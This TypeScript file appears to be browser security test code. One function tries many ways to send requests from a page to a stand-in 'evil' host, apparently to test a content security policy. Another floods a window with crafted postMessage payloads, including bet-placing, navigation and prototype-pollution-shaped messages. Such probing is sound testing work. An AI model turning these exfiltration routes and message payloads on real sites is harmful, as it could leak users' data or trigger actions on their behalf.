/**
 * Tries each way out of the page to `evil`; returns the ones that succeeded. The origin records every
 * request.
 */
export const waysOut = async (evil: string): Promise<readonly string[]> => {
  const add = (tag: string, fields: object) =>
    new Promise<void>((done, fail) => {
      const element = Object.assign(document.createElement(tag), fields);
      element.onload = () => done();
      element.onerror = () => fail(new Error(tag));
      document.body.append(element);
    });
  const received = (target: EventTarget, type: string) =>
    new Promise<void>((done, fail) => {
      target.addEventListener(type, () => done());
      target.addEventListener("error", () => fail(new Error(type)));
    });
  const worker = () =>
    URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" }));
  const ways: Readonly<Record<string, () => unknown>> = {
    "worker of a blob": () => received(new Worker(worker()), "message"),
    "shared worker of a blob": () => new SharedWorker(worker()),
    "service worker": () => navigator.serviceWorker.register(evil),
    fetch: () => fetch(evil, { mode: "no-cors" }),
    "request of old": () => {
      const request = new XMLHttpRequest();
      request.open("GET", evil);
      request.send();
      return received(request, "load");
    },
    socket: () => received(new WebSocket(evil.replace(/^http/, "ws")), "open"),
    events: () => received(new EventSource(evil), "open"),
    picture: () => add("img", { src: evil }),
    sound: () => received(new Audio(evil), "loadeddata"),
    font: () => new FontFace("evil", `url(${evil})`).load(),
    "style sheet": () => add("link", { rel: "stylesheet", href: evil }),
    prefetch: () => add("link", { rel: "prefetch", href: evil }),
    object: () => add("object", { data: evil }),
    embed: () => add("embed", { src: evil }),
    script: () => add("script", { src: evil }),
    module: () => import(evil),
    "inline script": () => {
      document.body.append(Object.assign(document.createElement("script"), { text: "evil = 1" }));
    },
    html: () => {
      Reflect.set(document.createElement("p"), "innerHTML", "<img src=x>");
    },
    ...Object.fromEntries(
      ["touchline-sections", "default", "evil"].map((name) => [
        `policy "${name}"`,
        () => Reflect.get(window, "trustedTypes").createPolicy(name, {}),
      ]),
    ),
  };
  // A way that reports nothing by now has failed; the origin would record anything later.
  const late = () =>
    new Promise((_done, fail) => setTimeout(() => fail(new Error("nothing came")), 700));
  const outcomes = await Promise.allSettled(
    Object.values(ways).map(async (way) => Promise.race([way(), late()])),
  );
  return Object.keys(ways).filter((_name, at) => outcomes[at]?.status === "fulfilled");
};

/** Sends a thousand messages to a window, each of a form that something in a page may listen for. */
export const sayMuch = (to: Window, canary: string): void => {
  const order = { type: "nav/go", payload: { path: `/en/coupon?${canary}` } };
  const forms: readonly unknown[] = [
    canary,
    null,
    order,
    JSON.stringify(order),
    { type: "touchline:section", detail: { appName: "topEvents", type: "dead", canary } },
    { type: "PlaceBet", data: {}, canary },
    { type: "SessionEnded", seq: 1, at: 1, data: { canary } },
    { type: "leave", canary },
    { __proto__: null, constructor: { prototype: { canary } }, canary },
    [canary, order],
  ];
  for (let said = 0; said < 1_000; said += 1) to.postMessage(forms[said % forms.length], "*");
};
